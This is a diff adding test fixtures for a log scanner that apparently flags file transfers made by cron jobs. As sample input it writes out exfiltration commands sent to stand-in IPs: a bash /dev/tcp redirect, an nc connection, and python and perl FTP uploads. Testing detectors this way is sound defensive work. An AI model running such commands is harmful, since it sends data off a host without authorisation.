@@ -70,6 +70,66 @@ def execs_only():
                    if line.split("msg=")[1].split(":")[1] not in stamps)
 
 
+def without(story, call):
+    """The log of a host whose rules do not ask for that call."""
+    stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
+              if f"syscall={call} " in line}
+    return "".join(line + "\n" for line in story.lines
+                   if line.split("msg=")[1].split(":")[1] not in stamps)
+
+
+def exec_jobs(*argvs):
+    """Jobs of cron, each a program; only program starts are in the log."""
+    story = Story()
+    for i, argv in enumerate(argvs):
+        shell = story.cron_job("job", pid=700 + 10 * i, ses=3 + i)
+        shell.fork(702 + 10 * i).exec("/usr/bin/" + argv[0], *argv)
+    return without(story, 56)
+
+
+def argv_peers():
+    """Ports in arguments and URLs, this host in many spellings, sockets that are no network."""
+    return exec_jobs(
+        ["sftp", "-P", "2222", "feed@198.51.100.10"], ["sftp", "-P", "22", "feed@198.51.100.10"],
+        ["curl", "-Tf", "http://203.0.113.9:8080/"], ["nc", "203.0.113.9", "9001"],
+        ["rsync", "-a", "f", "rsync://203.0.113.9/m"], ["curl", "-T", "f", "http://0xcb007109/"],
+        ["curl", "-T", "f", "http://127.1/"], ["curl", "-T", "f", "http://2130706433/"],
+        ["curl", "-T", "f", "http://localhost.localdomain/"], ["scp", "f", "ip6-loopback:"],
+        ["curl", "-T", "f", "http://[::1%25lo]/"], ["curl", "-T", "f", "http://app.localhost/"],
+        ["curl", "--unix-socket", "/run/docker.sock", "-d", "@f", "http://docker/v1"],
+        ["nc", "-U", "/run/x.sock"], ["socat", "-", "UNIX-CONNECT:/run/x.sock"],
+        ["curl", "-T", "f", "file:///srv/f"])
+
+
+def one_liners():
+    """Programs in an argument, and programs that only sound like a transfer."""
+    return exec_jobs(
+        ["bash", "-c", "cat /srv/f > /dev/tcp/203.0.113.9/9001"],
+        ["python3", "-c", "import ftplib; f=ftplib.FTP('203.0.113.10'); f.storbinary('STOR x',o)"],
+        ["perl", "-MNet::FTP", "-e", "$f=Net::FTP->new('203.0.113.11'); $f->put('f')"],
+        ["restic", "-r", "sftp:u@backup.example.org:/srv", "backup", "/etc"],
+        ["git", "push", "ssh://git@git.example.org:2222/r"],
+        ["bash", "-c", "echo /dev/tcp/203.0.113.9/80"], ["git", "commit", "-m", "x"],
+        ["python3", "-m", "http.server"], ["npm", "install"], ["openssl", "enc", "-in", "f"],
+        ["docker", "push", "localhost:5000/x"], ["tar", "cf", "a:b", "--force-local", "d"])
+
+
+def titles():
+    """A program whose execve is not in the log, under its parent's title; another, whose title is
+    cut."""
+    story = Story()
+    one = story.cron_job("curl -T f https://203.0.113.9/").fork(702)
+    one.exe, one.comm = "/usr/bin/curl", "curl"
+    one.title = "/bin/sh\0-c\0curl -T f https://other.example.org/"
+    one.upload(5, "203.0.113.9", 443, 3000, 120_000_000)
+    two = story.cron_job("scp x", pid=720, ses=4).fork(722)
+    two.exe, two.comm = "/usr/bin/scp", "scp"
+    two.title = ("scp\0-q\0" + "x" * 100 + "\0drop@backup.example.org:")[:128]
+    two.upload(5, "203.0.113.10", 22, 3000, 120_000_000)
+    story.chatter()
+    return story.text()
+
+
 def nothing_sent():
     story = Story()
     story.cron_job("true")
@@ -110,7 +170,8 @@ def one_job():
     return story.text()
 
 
-LOGS = {"scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
+LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titles": titles,
+        "scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
         "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
         "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
